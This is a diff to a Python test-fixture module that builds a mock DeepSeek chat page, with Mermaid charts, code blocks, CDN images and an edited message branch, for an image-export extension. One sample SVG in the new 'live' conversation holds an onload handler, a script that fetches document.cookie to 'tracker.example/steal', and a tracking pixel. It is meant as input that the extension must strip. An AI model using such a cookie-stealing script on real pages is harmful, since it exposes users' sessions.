@@ -33,8 +33,11 @@ from urllib.parse import quote
 CHAT_HOST = "chat.deepseek.com"
 FILES_HOST = "files.deepseeksvc.com"
 GEN_HOST = "image.pollinations.ai"
+#: A public image host: answers ``Access-Control-Allow-Origin: *``, so a credentialed
+#: cross-origin read of it fails, and the extension holds no host permission for it.
+CDN_HOST = "cdn.example-images.test"
 #: Every host name the sample server answers for (and the bundled certificate covers).
-HOSTS: tuple[str, ...] = (CHAT_HOST, FILES_HOST, GEN_HOST)
+HOSTS: tuple[str, ...] = (CHAT_HOST, FILES_HOST, GEN_HOST, CDN_HOST)
 
 #: The bearer token the page keeps in localStorage.userToken and sends to the history API.
 TOKEN = "sample-token-6f1d2c0b9a8e4f37"
@@ -198,6 +201,32 @@ class InlineImage:
         return f"data:{MIME[self.fmt]};base64,{base64.b64encode(self.body).decode()}"
 
 
+@dataclass(frozen=True)
+class CdnImage:
+    """A markdown image in an answer, served by the public ``CDN_HOST``."""
+
+    path: str
+    fmt: str
+    body: bytes
+    alt: str
+
+    @property
+    def url(self) -> str:
+        return f"https://{CDN_HOST}/{self.path}"
+
+
+@dataclass(frozen=True)
+class CodeBlock:
+    """A fenced code block in an answer. ``drawing``: an SVG written as code (an ``svg`` block,
+    or an ``xml``/``html`` block holding one ``<svg>`` document), an image the extension lists;
+    ``marker`` is text inside the drawing that a saved file must contain."""
+
+    lang: str
+    code: str
+    drawing: bool = False
+    marker: str = ""
+
+
 @dataclass
 class Turn:
     role: str  # "user" | "assistant"
@@ -213,6 +242,9 @@ class Turn:
     """A visible parameter line, e.g. ``Seed: 42 · Steps: 30``."""
     search: bool = False
     """Web-search answer: source favicons and citation chips (never content)."""
+    cdn: list[CdnImage] = field(default_factory=list)
+    code: list[CodeBlock] = field(default_factory=list)
+    """Fenced code blocks, shown after the images and before the diagram."""
 
 
 @dataclass(frozen=True)
@@ -245,6 +277,20 @@ class Conversation:
     window: int | None = None
     """Rows mounted at a time by the virtual list; ``None`` mounts every row."""
     row_height: int = 520
+    live: bool = False
+    """Markup as others captured it from the live page in Sept-Oct 2026 (reference §13): a second
+    ``.ds-virtual-list`` (the right-edge strip) first in the document, code-block banners without
+    ``.md-code-block-infostring``, Mermaid with Diagram/Code tabs that renders a moment after its
+    row mounts and gets new random ids on every render, a toolbar of six buttons."""
+    edited: tuple[int, str, str] | None = None
+    """``(turn index, old prompt, old answer)``: that user turn was edited; the old branch stays in
+    the history data, and the shown branch's message ids (= row keys) skip two."""
+
+    def message_id(self, index: int) -> int:
+        """The message id (and row key) of shown turn ``index``."""
+        if self.edited and index >= self.edited[0]:
+            return index + 3
+        return index + 1
 
     @property
     def page_url(self) -> str:
@@ -303,6 +349,25 @@ class Conversation:
                         f"{im.scheme}:", im.body, im.fmt, "generated", (prompt,), i, mounted
                     )
                 )
+            for c in turn.cdn:
+                out.append(ExpectedImage(c.url, c.body, c.fmt, "generated", (prompt,), i, mounted))
+        return out
+
+    @property
+    def drawings(self) -> list[ExpectedImage]:
+        """SVG drawings written as code blocks (listed from the page's data, mounted or not);
+        ``body`` is the code, which still holds what the extension must remove."""
+        out = []
+        for i, turn in enumerate(self.turns):
+            for block in turn.code:
+                if block.drawing:
+                    prompt = self._user_prompt_before(i)
+                    body = block.code.encode()
+                    out.append(
+                        ExpectedImage(
+                            f"svg-code:{block.marker}", body, "svg", "diagram", (prompt,), i, True
+                        )
+                    )
         return out
 
     @property
@@ -331,10 +396,22 @@ class Conversation:
     def history(self, *, current_shape: bool) -> dict[str, Any]:
         """The ``history_messages`` envelope; ``current_shape`` = the request had x-client-*."""
         messages = []
-        for i, turn in enumerate(self.turns):
+        shown = list(enumerate(self.turns))
+        branch: list[tuple[int, Turn, int, int | None]] = [
+            (i, t, self.message_id(i), self.message_id(i - 1) if i else None) for i, t in shown
+        ]
+        if self.edited:
+            at, old_prompt, old_answer = self.edited
+            parent = self.message_id(at - 1) if at else None
+            branch += [
+                (at, Turn("user", old_prompt), at + 1, parent),
+                (at + 1, Turn("assistant", old_answer), at + 2, at + 1),
+            ]
+            branch.sort(key=lambda entry: entry[2])
+        for i, turn, message_id, parent_id in branch:
             msg: dict[str, Any] = {
-                "message_id": i + 1,
-                "parent_id": i or None,
+                "message_id": message_id,
+                "parent_id": parent_id,
                 "model": "",
                 "role": turn.role.upper(),
                 "status": "FINISHED",
@@ -413,7 +490,7 @@ class Conversation:
                         "title": self.title,
                         "title_type": "SYSTEM",
                         "version": len(self.turns),
-                        "current_message_id": len(self.turns),
+                        "current_message_id": self.message_id(len(self.turns) - 1),
                         "pinned": False,
                         "inserted_at": 1789300000.123,
                         "updated_at": 1789300000.0 + 60 * len(self.turns),
@@ -431,8 +508,10 @@ def _markdown(turn: Turn) -> str:
         return turn.text
     parts = [turn.text]
     parts += [f"![{g.alt}]({g.url})" for g in turn.images]
+    parts += [f"![{c.alt}]({c.url})" for c in turn.cdn]
     if turn.params:
         parts.append(turn.params)
+    parts += [f"```{b.lang}\n{b.code}\n```" for b in turn.code]
     if turn.diagram:
         parts.append(f"```mermaid\n{turn.diagram[0]}\n```")
     return "\n\n".join(parts)
@@ -467,6 +546,11 @@ class Sample:
             for t in c.turns
             for g in t.images
         }
+
+    @property
+    def cdn(self) -> dict[str, CdnImage]:
+        """``CDN_HOST`` paths → images."""
+        return {c.path: c for conv in self.conversations for t in conv.turns for c in t.cdn}
 
     @property
     def ignored_urls(self) -> list[str]:
@@ -592,6 +676,16 @@ def _assistant_row(key: int, turn: Turn, inline_ids: dict[int, str]) -> str:
     if turn.params:
         for line in turn.params.split("\n"):
             parts.append(f'<p class="ds-markdown-paragraph">{_esc(line)}</p>')
+    for c in turn.cdn:
+        parts.append(
+            f'<p class="ds-markdown-paragraph"><img src="{_esc(c.url)}" alt="{_esc(c.alt)}"></p>'
+        )
+    for block in turn.code:
+        parts.append(
+            '<div class="md-code-block md-code-block-light"><div class="md-code-block-banner-wrap">'
+            f'<div class="md-code-block-banner"><span class="md-code-block-infostring">'
+            f"{_esc(block.lang)}</span></div></div><pre>{_code_lines(block.code)}</pre></div>"
+        )
     if turn.search:
         # KaTeX renders some glyphs as tiny inline SVGs: decoration, never content.
         parts.append(
@@ -615,6 +709,108 @@ def _assistant_row(key: int, turn: Turn, inline_ids: dict[int, str]) -> str:
     return "".join(parts)
 
 
+def _code_lines(code: str) -> str:
+    """A code block's <pre> content as the live page renders it: one <span> per line (§13)."""
+    return "".join(f"<span>{_esc(line)}</span>" for line in code.split("\n"))
+
+
+# -- the live page's markup (reference §13), for conversations with ``live=True``
+
+_LIVE_BUTTON = (
+    '<div role="button" class="ds-button ds-button--xs"><svg viewBox="0 0 16 16" width="16" '
+    'height="16"><rect x="4" y="4" width="8" height="8"/></svg><span>{label}</span></div>'
+)
+
+
+def _live_banner(lang: str, tabs: bool = False) -> str:
+    tab_html = (
+        '<div class="_2f1e3ab" role="tablist"><div role="tab" aria-selected="true" '
+        'class="ds-segmented-button ds-segmented-button--selected">图表</div><div role="tab" '
+        'aria-selected="false" class="ds-segmented-button">代码</div></div>'
+        if tabs
+        else ""
+    )
+    buttons = _LIVE_BUTTON.format(label="复制") + _LIVE_BUTTON.format(label="下载")
+    return (
+        '<div class="md-code-block-banner-wrap"><div class="md-code-block-banner '
+        'md-code-block-banner-lite"><div class="_121d384"><div class="d2a24f03">'
+        f'<span class="d813de27">{_esc(lang)}</span></div>{tab_html}'
+        f'<div class="efa13877">{buttons}</div></div></div></div>'
+    )
+
+
+def _live_code_block(block: CodeBlock) -> str:
+    deco = '<svg class="_9d8e7f6" viewBox="0 0 10 10"><path d="M0 0h10"/></svg>'
+    return (
+        f'<div class="md-code-block md-code-block-light">{_live_banner(block.lang)}'
+        f"<pre>{_code_lines(block.code)}</pre>{deco}{deco}</div>"
+    )
+
+
+def _live_user_row(key: int, turn: Turn) -> str:
+    return (
+        f'<div data-virtual-list-item-key="{key}" class="_9663006 _2c189bc">'
+        '<div class="d29f3d7d ds-message _63c77b1"><div class="fbb737a4">'
+        f'<div class="ds-collapsible-text">{_esc(turn.text)}</div></div></div>'
+        f'<div class="_11d6b3a"><div class="_425ea0b"><div class="ds-flex _78e0558">'
+        f"{_ICON_COPY}{_ICON_EDIT}</div></div></div></div>"
+    )
+
+
+def _live_assistant_row(key: int, turn: Turn, chart: int | None) -> str:
+    parts = [
+        f'<div data-virtual-list-item-key="{key}" class="_4f9bf79 _43c05b5">',
+        '<div class="ds-message _63c77b1">',
+    ]
+    if turn.think:
+        parts.append(
+            '<div class="_74c0879"><div class="e1675d8b ds-think-content _767406f">'
+            f'<div class="ds-markdown"><p class="ds-markdown-paragraph">{_esc(turn.think)}</p>'
+            "</div></div></div>"
+        )
+    parts.append('<div class="ds-markdown ds-assistant-message-main-content">')
+    parts += [f'<p class="ds-markdown-paragraph">{_esc(p)}</p>' for p in turn.text.split("\n\n")]
+    for g in turn.images:
+        parts.append(
+            f'<p class="ds-markdown-paragraph"><img src="{_esc(g.url)}" alt="{_esc(g.alt)}"></p>'
+        )
+    for c in turn.cdn:
+        parts.append(
+            f'<p class="ds-markdown-paragraph"><img src="{_esc(c.url)}" alt="{_esc(c.alt)}"></p>'
+        )
+    parts += [_live_code_block(block) for block in turn.code]
+    if chart is not None:
+        # No <pre> while the diagram tab shows; page.js renders the chart a moment after mount.
+        parts.append(
+            f'<div class="md-code-block md-code-block-light">{_live_banner("mermaid", tabs=True)}'
+            '<div class="_4a1b2c3"><style>._4a1b2c3 svg{max-width:100%}</style>'
+            f'<div data-sample-chart="{chart}"></div></div></div>'
+        )
+    parts.append("</div></div>")
+    labels = ["复制", "重新生成", "喜欢", "不喜欢", "朗读", "分享"]
+    buttons = "".join(
+        f'<div role="button" aria-label="{label}" class="ds-button ds-button--iconLabelTertiary '
+        'ds-button--icon _17e543b"><svg viewBox="0 0 16 16" width="16" height="16">'
+        '<path d="M2 2h12v12H2z"/></svg></div>'
+        for label in labels
+    )
+    parts.append(f'<div class="ds-flex _0a3d93b">{buttons}</div></div>')
+    return "".join(parts)
+
+
+def _live_strip(conv: Conversation) -> str:
+    """The fixed strip at the right edge: a second virtual list, first in the document, whose
+    rows are plain divs without row keys or ``ds-*`` classes."""
+    texts = "".join(
+        f'<div class="_81e7b5e">{_esc(t.text[:40])}</div>' for t in conv.turns if t.role == "user"
+    )
+    return (
+        '<div class="_3c1f8e2 sample-strip"><div class="ds-virtual-list ds-scroll-area">'
+        f'<div class="ds-virtual-list-items"><div class="ds-virtual-list-visible-items">{texts}'
+        "</div></div></div></div>"
+    )
+
+
 def page_html(sample: Sample, conv: Conversation) -> str:
     inline: dict[str, dict[str, str]] = {}
     inline_ids: dict[int, str] = {}
@@ -624,16 +820,29 @@ def page_html(sample: Sample, conv: Conversation) -> str:
                 ident = f"b{len(inline)}"
                 inline_ids[id(im)] = ident
                 inline[ident] = {"mime": MIME[im.fmt], "b64": base64.b64encode(im.body).decode()}
-    rows = [
-        _user_row(i + 1, t) if t.role == "user" else _assistant_row(i + 1, t, inline_ids)
-        for i, t in enumerate(conv.turns)
-    ]
+    charts: list[dict[str, str]] = []
+    rows = []
+    for i, t in enumerate(conv.turns):
+        key = conv.message_id(i)
+        if conv.live and t.role == "user":
+            rows.append(_live_user_row(key, t))
+        elif conv.live:
+            chart = None
+            if t.diagram:
+                chart = len(charts)
+                charts.append({"svg": t.diagram[1], "code": t.diagram[0]})
+            rows.append(_live_assistant_row(key, t, chart))
+        else:
+            rows.append(
+                _user_row(key, t) if t.role == "user" else _assistant_row(key, t, inline_ids)
+            )
     config = {
         "id": conv.id,
         "token": TOKEN,
         "window": conv.window,
         "rowHeight": conv.row_height,
         "clientVersion": CLIENT_VERSION,
+        "charts": charts,
         "apiPath": conv.api_path,
     }
     links = []
@@ -672,6 +881,7 @@ def page_html(sample: Sample, conv: Conversation) -> str:
 <style>{_static("page.css")}</style>
 </head>
 <body class="zh_CN light">
+{_live_strip(conv) if conv.live else ""}
 <div id="root"><div class="ds-theme"><div class="a1c0ffee">
 <aside class="b8812f16 a2f3d50e"><div class="ds-scroll-area _3586175"><div class="_77cdc67">
 <div class="f3d18f6a">今天</div>{"".join(links)}</div>
@@ -869,6 +1079,147 @@ _LONG_MERMAID_SVG = (
 )
 
 
+def _mermaid_live_svg(labels: list[str], fill: str) -> str:
+    """A chart as mermaid.render gives it: a root id the page picks at random (``__RID__``, and a
+    node counter ``__N__``, both replaced by page.js on every render), a ``<style>`` scoped by
+    that id, an arrow marker, and HTML labels inside ``<foreignObject>``."""
+    width = 20 + 95 * len(labels)
+    parts = [
+        f'<svg id="mermaid-__RID__" width="100%" xmlns="http://www.w3.org/2000/svg" '
+        f'class="flowchart" style="max-width: {width}px;" viewBox="0 0 {width} 60" '
+        'role="graphics-document document" aria-roledescription="flowchart-v2">'
+        '<style>#mermaid-__RID__{font-family:"trebuchet ms",verdana,arial,sans-serif;'
+        f"font-size:14px;fill:#333;}}#mermaid-__RID__ .node rect{{fill:{fill};stroke:#9370DB;}}"
+        "#mermaid-__RID__ .nodeLabel p{margin:0}</style>"
+        '<g><marker id="mermaid-__RID___flowchart-v2-pointEnd" viewBox="0 0 10 10" refX="5" '
+        'refY="5" markerWidth="8" markerHeight="8" orient="auto"><path d="M 0 0 L 10 5 L 0 10 z"/>'
+        '</marker><g class="edgePaths">'
+    ]
+    for k in range(len(labels) - 1):
+        x = 10 + 95 * k + 80
+        parts.append(
+            f'<path d="M{x},30L{x + 15},30" id="L_{k}_{k + 1}_0" stroke="#333" '
+            'marker-end="url(#mermaid-__RID___flowchart-v2-pointEnd)"/>'
+        )
+    parts.append('</g><g class="nodes">')
+    for k, label in enumerate(labels):
+        parts.append(
+            f'<g class="node default" id="mermaid-__RID__-flowchart-n{k}-__N__" '
+            f'transform="translate({10 + 95 * k},15)"><rect width="80" height="30"/>'
+            '<g class="label" transform="translate(5,5)"><foreignObject width="70" height="20">'
+            '<div xmlns="http://www.w3.org/1999/xhtml" style="display: table-cell; width: 70px; '
+            'text-align: center; white-space: nowrap; line-height: 1.5;"><span class="nodeLabel">'
+            f"<p>{html.escape(label)}</p></span></div></foreignObject></g></g>"
+        )
+    parts.append("</g></g></svg>")
+    return "".join(parts)
+
+
+#: An SVG drawing as a model writes it in an ``svg`` block, with what a page must never run or
+#: load: a script, an event handler and an outside image.
+_CAT_SVG = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200" width="200" height="200"
+     onload="alert('hi')">
+  <script>fetch('https://tracker.example/steal?c=' + document.cookie)</script>
+  <rect width="200" height="200" fill="#fdf6e3"/>
+  <circle cx="100" cy="115" r="60" fill="#f4a261"/>
+  <polygon points="55,75 68,22 92,62" fill="#e76f51"/>
+  <polygon points="145,75 132,22 108,62" fill="#e76f51"/>
+  <circle cx="80" cy="105" r="8" fill="#264653"/>
+  <circle cx="120" cy="105" r="8" fill="#264653"/>
+  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
+  <text x="100" y="192" font-size="18" text-anchor="middle" fill="#264653">猫 cat</text>
+</svg>"""
+
+_SUN_HTML = """<!DOCTYPE html>
+<html>
+<head><meta charset="utf-8"><title>太阳</title></head>
+<body>
+<svg viewBox="0 0 120 120" width="240" height="240">
+  <rect width="120" height="120" fill="#e0f2fe"/>
+  <circle cx="60" cy="60" r="30" fill="gold"/>
+  <g stroke="orange" stroke-width="4">
+    <line x1="60" y1="5" x2="60" y2="20"/><line x1="60" y1="100" x2="60" y2="115"/>
+    <line x1="5" y1="60" x2="20" y2="60"/><line x1="100" y1="60" x2="115" y2="60"/>
+  </g>
+</svg>
+</body>
+</html>"""
+
+
+_SUN_BLOCK = CodeBlock("html", _SUN_HTML, drawing=True, marker="gold")
+
+
+def _live() -> Conversation:
+    """The page in the shape others captured from the live site (reference §13): see
+    ``Conversation.live``. Charts in turns 1 and 5 are not mounted when it opens (only four rows
+    are); the chart in turn 11 is, and is rendered again, with new ids, on every remount."""
+    photo = CdnImage(
+        "photos/sunrise-reference.jpg",
+        "jpeg",
+        make_image_bytes("jpeg", 480, 320, 61, "sunrise reference"),
+        "日出参考照片",
+    )
+    turns = [
+        Turn("user", "画一个登录流程图，用 mermaid"),
+        Turn(
+            "assistant",
+            "登录流程如下：",
+            think="用户要一个 mermaid 流程图。",
+            diagram=(
+                "flowchart LR\n  打开页面 --> 登录 --> 首页",
+                _mermaid_live_svg(["打开页面", "登录", "首页"], "#ECECFF"),
+            ),
+        ),
+        Turn("user", "用 SVG 画一只猫 🐱"),
+        Turn(
+            "assistant",
+            "先试一下打印，再画猫：",
+            code=[
+                CodeBlock("python", "print('hello')\nfor i in range(3):\n    print(i)"),
+                CodeBlock("svg", _CAT_SVG, drawing=True, marker="猫 cat"),
+            ],
+        ),
+        Turn("user", "再画一个一天的流程图"),
+        Turn(
+            "assistant",
+            "一天：",
+            diagram=(
+                "flowchart LR\n  日出 --> 正午 --> 日落",
+                _mermaid_live_svg(["日出", "正午", "日落"], "#FFF4D6"),
+            ),
+        ),
+        Turn("user", "给我一张日出的参考照片"),
+        Turn("assistant", "参考照片：", cdn=[photo]),
+        Turn("user", "用 HTML 画一个太阳"),
+        Turn("assistant", "太阳：", code=[_SUN_BLOCK]),
+        Turn("user", "最后把整个过程画成流程图"),
+        Turn(
+            "assistant",
+            "整个过程：",
+            diagram=(
+                "flowchart LR\n  流程图 --> 猫 --> 太阳",
+                _mermaid_live_svg(["流程图", "猫", "太阳"], "#E6F4EA"),
+            ),
+        ),
+        Turn("user", "谢谢 🙏"),
+        Turn("assistant", "不客气！"),
+    ]
+    old_answer = (
+        '一只狗：\n\n```svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
+        '<rect width="10" height="10" fill="brown"/></svg>\n```'
+    )
+    return Conversation(
+        "live",
+        _uuid(13),
+        "画图练习（真实页面结构）🎨",
+        turns,
+        window=4,
+        row_height=420,
+        live=True,
+        edited=(2, "用 SVG 画一只狗", old_answer),
+    )
+
+
 def _batch50() -> Conversation:
     turns: list[Turn] = []
     emojis = "😀🐱🌸🚀🍜🎈🌈🐼🍉⭐"
@@ -929,7 +1280,7 @@ def build_sample(*, bench: bool = False) -> Sample:
     """All sample conversations; ``bench`` adds 50 images of ~2 MB each (about 100 MB, ~2 s)."""
     from dsexport.demo import sample_export  # rich text and a share page, for exports
 
-    convs = [_main(), _extras(), _long(), _batch50(), _broken()]
+    convs = [_main(), _extras(), _long(), _batch50(), _broken(), _live()]
     convs += [sample_export.rich(), sample_export.share()]
     if bench:
         convs.append(_bench())
